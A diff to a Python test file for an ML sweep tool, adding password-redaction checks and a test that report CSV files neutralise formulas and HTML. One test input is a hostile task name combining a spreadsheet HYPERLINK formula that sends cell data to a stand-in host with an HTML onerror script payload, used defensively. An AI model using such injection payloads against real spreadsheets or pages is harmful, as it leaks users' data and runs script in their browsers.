@@ -385,7 +385,7 @@ REDACTION_CASES = [
 
 @pytest.mark.parametrize("url,shown", [pytest.param(u, s, id=i) for i, u, s in REDACTION_CASES])
 def test_every_url_form_is_redacted(url, shown):
-    from ttrlab.sweep.store import database_url, redacted
+    from ttrlab.sweep.store import as_given, database_url, redacted
 
     try:
         given = database_url(url)
@@ -393,6 +393,7 @@ def test_every_url_form_is_redacted(url, shown):
         given = url
     assert redacted(given) == shown
     assert SECRET not in redacted(given) and SECRET not in redacted(url)
+    assert SECRET not in as_given(url) and SECRET not in as_given(given)  # as a report's page names it
 
 
 def test_no_output_of_a_run_holds_the_password(capsys, tmp_path, monkeypatch, postgres_url):
@@ -722,13 +723,14 @@ def test_the_report_side_files_neutralise_formulas_and_html(tmp_path):
     evil_task = '=HYPERLINK("http://x.example/?"&A1,"click")<img src=x onerror=alert(1)>'  # a task name
     configs = grid(seeds=(0, 1), method="ff", attack="upa", rate=0.1) + grid(seeds=(0, 1), method="lora", attack="upa", rate=0.1)
     db = make_db(tmp_path / "r.sqlite", [])
-    with ResultStore(db) as store:
-        for i, config in enumerate(configs):
-            values = {**config.to_dict(), "task": evil_task}
-            store.record(sweep_id=None, kind="train", run_key=f"{i:024d}", config=values,
-                         result={"metrics": {"clean": {"accuracy": 0.5 + i / 100}, "asr": 0.1 * i}})
+    with ResultStore(db) as store:  # two tasks: the aggregates hold the settings the cells differ in
+        for j, task in enumerate((evil_task, "sst2")):
+            for i, config in enumerate(configs):
+                values = {**config.to_dict(), "task": task}
+                store.record(sweep_id=None, kind="train", run_key=f"{j}{i:023d}", config=values,
+                             result={"metrics": {"clean": {"accuracy": 0.5 + i / 100}, "asr": 0.1 * i}})
     out = tmp_path / "report"
-    build_report(db, out)
+    build_report(db, out, compare_paper=True)  # the claims' table too: no claim is testable on these runs
     for name in ("aggregates.csv", "comparisons.csv", "paper_comparison.csv"):
         text = (out / name).read_text()
         assert not re.search(r'(^|,)"?[=+@-][^0-9]', text, re.M), name
